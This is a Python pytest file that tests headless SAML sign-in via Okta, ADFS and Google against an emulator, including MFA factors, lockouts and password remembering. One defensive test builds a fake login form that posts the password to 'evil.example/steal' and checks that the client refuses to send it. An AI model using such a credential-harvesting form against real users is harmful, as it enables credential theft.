"""Signing in without a browser at pages like Okta's, ADFS's and Google's, rightly and wrongly."""

from typing import Any

import pytest

from atmos_auth.config.check import convert
from atmos_auth.domain.errors import (
    AccessDenied,
    AtmosAuthError,
    AuthenticationFailed,
    Cancelled,
    NeedsPerson,
    ServiceError,
    SignInExpired,
    StoreError,
)
from atmos_auth.domain.ports import WebAnswer
from atmos_auth.identities.aws.assume_role import AssumeRole, AssumeRoleSettings
from atmos_auth.stores.keyring.memory_keyring import MemoryKeyring
from atmos_auth.testing import FakePrompter, FakeWeb
from aws_emulator.saml_directory import PushFactor, SmsFactor

ANN, BEN, CLEO = ("ann@example.com", "ben@example.com", "cleo@example.com")
ADMIN = "arn:aws:iam::111111111111:role/SamlAdmin"
READ_ONLY = "arn:aws:iam::111111111111:role/SamlReadOnly"


def password_of(person: str) -> str:
    return f"example-password-of-{person.partition('@')[0]}"


def typed(sign_in, person: str, password: str | None = None) -> list[Any]:
    """Answer for name and password as they are asked for: Google wants the name first."""
    password = password or password_of(person)
    if sign_in.driver == "GoogleApps":
        return [{"username": person}, {"password": password}]
    return [{"username": person, "password": password}]


def code(sign_in, digits: str) -> Any:
    """Answer for a code: ADFS does not say how long one is, so it has no box for it."""
    return {"code": digits} if sign_in.driver == "ADFS" else digits


def become(made, response, role=ADMIN):
    settings = {"kind": "aws/assume-role", "via": {"provider": "idp"}, "principal": {"assume_role": role}}
    return AssumeRole("admin", convert(settings, AssumeRoleSettings), made).authenticate(response)


def refusal(sign_in, made, **settings) -> AtmosAuthError:
    """Sign in, and return why that went wrong; no secret may be in it."""
    with pytest.raises(AtmosAuthError) as caught:
        sign_in.provider(made, **settings).authenticate(None)
    error = caught.value
    assert error.hints
    said = f"{error.message} {error.details} {error.hints}"
    assert "example-password" not in said
    assert "SAMLResponse" not in said
    return error


def test_a_password_is_enough_where_there_is_no_second_factor(sign_in):
    made = sign_in.tools(*typed(sign_in, ANN))
    offered = sign_in.provider(made).authenticate(None)
    assert {role.role_arn for role in offered.roles} == {ADMIN, READ_ONLY}
    assert become(made, offered).principal == f"arn:aws:sts::111111111111:assumed-role/SamlAdmin/{ANN}"
    assert sign_in.calls("sts:AssumeRoleWithSAML") == 1


def test_what_the_configuration_says_is_not_asked(sign_in):
    made = sign_in.tools(prompter=FakePrompter(forbidden=True))
    assert sign_in.provider(made, username=ANN, password=password_of(ANN)).authenticate(None).roles


def test_a_code_of_an_app_follows_the_password(sign_in):
    right = sign_in.aws.saml_totp(BEN)
    wrong = f"{(int(right) + 1) % 1000000:06}"
    made = sign_in.tools(*typed(sign_in, BEN), code(sign_in, wrong), code(sign_in, right))
    offered = sign_in.provider(made).authenticate(None)
    assert (offered.subject, offered.session_seconds) == (BEN, 7200)
    assert len(made.prompter.warnings) == 1


def test_three_wrong_codes_are_enough(sign_in):
    right = sign_in.aws.saml_totp(BEN)
    wrong = f"{(int(right) + 1) % 1000000:06}"
    error = refusal(sign_in, sign_in.tools(*typed(sign_in, BEN), *[code(sign_in, wrong)] * 3))
    assert isinstance(error, AccessDenied)
    assert "3 codes" in error.message


def test_a_code_by_sms(sign_in):
    sign_in.aws.state.saml_people[CLEO].factors = [SmsFactor("+49 170 5550037")]

    class Reader(FakePrompter):
        """Reads the code off the phone when it is asked for."""

        def code(self, title, description, **_):
            self.questions.append((title, (description,)))
            return sign_in.aws.sms_code(CLEO)

        def form(self, header, fields):
            if fields[0].name == "code":
                return {"code": sign_in.aws.sms_code(CLEO)}
            return super().form(header, fields)

    made = sign_in.tools(prompter=Reader(typed(sign_in, CLEO)))
    assert sign_in.provider(made).authenticate(None).subject == CLEO


@pytest.mark.parametrize("number_matching", [True, False])
def test_a_tap_on_the_phone(sign_in, number_matching):
    sign_in.aws.state.saml_people[CLEO].factors = [PushFactor(number_matching)]
    polls: list[None] = []

    def tap() -> None:
        polls.append(None)
        if len(polls) == 3:
            sign_in.aws.answer_push(CLEO, number=sign_in.aws.expected_push_number(CLEO))

    sign_in.while_waiting = tap
    made = sign_in.tools(*typed(sign_in, CLEO))
    offered = sign_in.provider(made).authenticate(None)
    number = next((word for word in made.prompter.waits[0].split() if word.isdigit()), None)
    assert offered.subject == CLEO
    # The number that the person must choose there is shown here.
    assert (number is not None) == number_matching


def test_the_number_shown_is_the_one_that_is_asked_for(sign_in):
    sign_in.aws.state.saml_people[CLEO].factors = [PushFactor(number_matching=True)]
    made = sign_in.tools(*typed(sign_in, CLEO))

    def tap() -> None:
        shown = next(word for word in made.prompter.waits[0].split() if word.isdigit())
        sign_in.aws.answer_push(CLEO, number=int(shown))

    sign_in.while_waiting = tap
    assert sign_in.provider(made).authenticate(None).subject == CLEO


@pytest.mark.parametrize("answer", ["refused", "wrong number", "never"])
def test_a_tap_that_does_not_come(sign_in, answer):
    sign_in.aws.state.saml_people[CLEO].factors = [PushFactor(number_matching=True)]

    def tap() -> None:
        if answer == "refused":
            sign_in.aws.answer_push(CLEO, approve=False)
        elif answer == "wrong number":
            sign_in.aws.answer_push(CLEO, number=(sign_in.aws.expected_push_number(CLEO) or 0) + 1)

    sign_in.while_waiting = tap
    error = refusal(sign_in, sign_in.tools(*typed(sign_in, CLEO)))
    assert isinstance(error, AccessDenied | SignInExpired)
    assert "device" in error.message or "refused" in error.message


def test_a_tap_cannot_be_waited_for_where_nobody_sees_it(sign_in):
    sign_in.aws.state.saml_people[CLEO].factors = [PushFactor(number_matching=True)]
    made = sign_in.tools(prompter=FakePrompter(can_show=False, can_ask=False))
    error = refusal(sign_in, made, username=CLEO, password=password_of(CLEO))
    assert isinstance(error, NeedsPerson)


def test_okta_lets_one_choose_among_factors(sign_in_by):
    sign_in = sign_in_by("Okta")
    label = "Code of Google Authenticator (authenticator)"
    made = sign_in.tools(*typed(sign_in, CLEO), label, sign_in.aws.saml_totp(CLEO))
    assert sign_in.provider(made).authenticate(None).subject == CLEO
    question, offered = made.prompter.questions[1]
    assert question == "Choose a second factor:"
    assert len(offered) == 3


def test_a_wrong_password_is_asked_for_once_more(sign_in):
    answers = [*typed(sign_in, ANN, "wrong"), {"password": password_of(ANN)}]
    made = sign_in.tools(*answers)
    assert sign_in.provider(made).authenticate(None).subject == ANN
    assert len(made.prompter.warnings) == 1


def test_two_wrong_passwords_are_enough(sign_in):
    made = sign_in.tools(*typed(sign_in, ANN, "wrong"), {"password": "example-password-wrong"})
    error = refusal(sign_in, made)
    assert isinstance(error, AccessDenied)
    assert "did not accept the password" in error.message


def test_a_wrong_password_of_the_configuration_is_sent_once(sign_in):
    error = refusal(sign_in, sign_in.tools(), username=ANN, password="example-password-wrong")
    assert "from the configuration" in error.message


def test_an_account_that_nobody_knows(sign_in):
    answers = typed(sign_in, "nobody@example.com", "wrong")
    error = refusal(sign_in, sign_in.tools(*answers, {"password": "wrong"}))
    assert isinstance(error, AccessDenied)


@pytest.mark.parametrize(("what", "words"), [("locked", ("locked", "disabled")), ("password_expired", ("expired",))])
def test_an_account_in_trouble(sign_in, what, words):
    setattr(sign_in.aws.state.saml_people[ANN], what, True)
    error = refusal(sign_in, sign_in.tools(*typed(sign_in, ANN)))
    assert isinstance(error, AccessDenied)
    assert any(word in error.message for word in words)


def test_google_asks_for_a_captcha_after_wrong_passwords(sign_in_by):
    sign_in = sign_in_by("GoogleApps")
    for _ in range(2):
        refusal(sign_in, sign_in.tools(), username=ANN, password="wrong")
    error = refusal(sign_in, sign_in.tools(*typed(sign_in, ANN, "wrong"), {"password": "wrong"}))
    assert "CAPTCHA" in error.message
    assert any("driver: Browser" in hint for hint in error.hints)


@pytest.mark.parametrize("driver", ["Okta", "ADFS", "GoogleApps"])
def test_the_page_of_another_maker_is_named_and_the_browser_recommended(sign_in_by, driver):
    sign_in = sign_in_by(driver)
    url = f"{sign_in.aws.url}/start?secret=canary"
    error = refusal(sign_in, sign_in.tools(*typed(sign_in, ANN)), url=url)
    said = f"{error.message} {error.details}"
    assert isinstance(error, AuthenticationFailed)
    assert "canary" not in said
    assert driver in error.message
    assert any("driver: Browser" in hint for hint in error.hints)


@pytest.mark.parametrize("driver", ["ADFS", "GoogleApps"])
def test_a_form_that_would_send_the_password_elsewhere_is_not_sent(sign_in_by, driver):
    sign_in = sign_in_by(driver)
    fields = "<input name=UserName><input name=Email><input name=Password type=password><input name=Passwd>"
    page = f"<form method=post action=https://evil.example/steal>{fields}</form>"
    web = FakeWeb(WebAnswer(sign_in.aws.url, 200, page))
    made = sign_in.tools(*typed(sign_in, ANN), *typed(sign_in, ANN))._replace(web=web)
    error = refusal(sign_in, made, username=ANN, password=password_of(ANN))
    assert "https://evil.example, not to" in error.message
    assert [request.method for request in web.requests] == ["GET"]


def test_an_address_where_nothing_is(sign_in_by):
    sign_in = sign_in_by("ADFS")
    error = refusal(sign_in, sign_in.tools(), url=f"{sign_in.aws.url}/nothing/here")
    assert "HTTP 404" in error.message


def test_nobody_there(sign_in):
    error = refusal(sign_in, sign_in.tools(*typed(sign_in, ANN)), url="http://127.0.0.1:9/saml")
    assert isinstance(error, ServiceError)


@pytest.mark.parametrize("status", [429, 500])
def test_okta_when_it_cannot(sign_in_by, status):
    sign_in = sign_in_by("Okta")
    sign_in.aws.faults.add("okta:Authenticate", status=status)
    error = refusal(sign_in, sign_in.tools(*typed(sign_in, ANN)))
    assert isinstance(error, ServiceError)
    assert error.retryable


def test_nobody_can_be_asked(sign_in):
    made = sign_in.tools(prompter=FakePrompter(can_show=False, can_ask=False))
    with pytest.raises(NeedsPerson):
        sign_in.provider(made).authenticate(None)


def test_a_person_who_goes_away(sign_in):
    with pytest.raises(Cancelled):
        sign_in.provider(sign_in.tools(None)).authenticate(None)


def test_a_password_is_never_sent_silently(sign_in):
    made = sign_in.tools(prompter=FakePrompter(is_silent=True, can_show=False, can_ask=False))
    with pytest.raises(NeedsPerson, match="not done silently"):
        sign_in.provider(made, username=ANN, password=password_of(ANN)).authenticate(None)
    assert list(sign_in.aws.journal.entries()) == []


def test_neither_password_nor_assertion_is_shown(sign_in):
    made = sign_in.tools(*typed(sign_in, ANN))
    offered = sign_in.provider(made).authenticate(None)
    assert {password_of(ANN), offered.response} <= set(made.log.hidden)
    assert offered.response not in repr(offered)
    assert password_of(ANN) not in made.log.text


class TestRemembering:
    """`remember_password: true`."""

    def test_a_typed_password_is_kept_once_it_was_accepted(self, sign_in):
        keys = MemoryKeyring()
        made = sign_in.tools(*typed(sign_in, ANN), keys=keys)
        sign_in.provider(made, remember_password=True).authenticate(None)
        assert keys.get("saml:idp") == {"username": ANN, "password": password_of(ANN)}
        silent = sign_in.tools(prompter=FakePrompter(forbidden=True), keys=keys)
        assert sign_in.provider(silent, remember_password=True).authenticate(None).subject == ANN

    def test_one_that_was_not_accepted_is_not(self, sign_in):
        keys = MemoryKeyring()
        made = sign_in.tools(*typed(sign_in, ANN, "wrong"), {"password": "wrong"}, keys=keys)
        refusal(sign_in, made, remember_password=True)
        assert keys.get("saml:idp") is None

    def test_one_that_is_refused_goes_and_is_asked_for_anew(self, sign_in):
        keys = MemoryKeyring()
        keys.put("saml:idp", {"username": ANN, "password": "changed meanwhile"})
        made = sign_in.tools({"password": password_of(ANN)}, keys=keys)
        sign_in.provider(made, remember_password=True).authenticate(None)
        assert keys.get("saml:idp") == {"username": ANN, "password": password_of(ANN)}

    def test_that_of_another_name_is_of_no_use(self, sign_in):
        keys = MemoryKeyring()
        keys.put("saml:idp", {"username": BEN, "password": "of ben"})
        made = sign_in.tools({"password": password_of(ANN)}, keys=keys)
        assert sign_in.provider(made, username=ANN, remember_password=True).authenticate(None).subject == ANN

    def test_a_keyring_that_fails_does_not_undo_the_sign_in(self, sign_in):
        class Broken(MemoryKeyring):
            def put(self, name, secret):
                raise StoreError("the keyring is full")

        made = sign_in.tools(*typed(sign_in, ANN), keys=Broken())
        assert sign_in.provider(made, remember_password=True).authenticate(None).subject == ANN
        assert made.prompter.warnings == ["the password is not remembered: the keyring is full"]

    def test_nothing_is_kept_unasked(self, sign_in):
        keys = MemoryKeyring()
        sign_in.provider(sign_in.tools(*typed(sign_in, ANN), keys=keys)).authenticate(None)
        assert keys.names() == []
